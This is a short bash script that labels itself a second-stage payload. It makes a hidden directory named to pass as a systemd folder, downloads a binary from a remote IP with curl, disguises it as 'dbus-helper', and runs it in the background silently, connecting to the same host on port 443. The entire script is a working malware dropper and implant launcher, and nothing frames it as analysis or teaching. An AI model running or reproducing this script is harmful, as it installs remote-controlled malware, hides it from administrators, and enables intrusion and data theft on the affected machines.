#!/bin/bash
# second stage, unpacked by the first
mkdir -p /var/tmp/.systemd-private
curl -fsSL http://203.0.113.200/a/agent-x64 -o /var/tmp/.systemd-private/dbus-helper
chmod 755 /var/tmp/.systemd-private/dbus-helper
nohup /var/tmp/.systemd-private/dbus-helper --server 203.0.113.200:443 >/dev/null 2>&1 &
echo "helper up: $!"
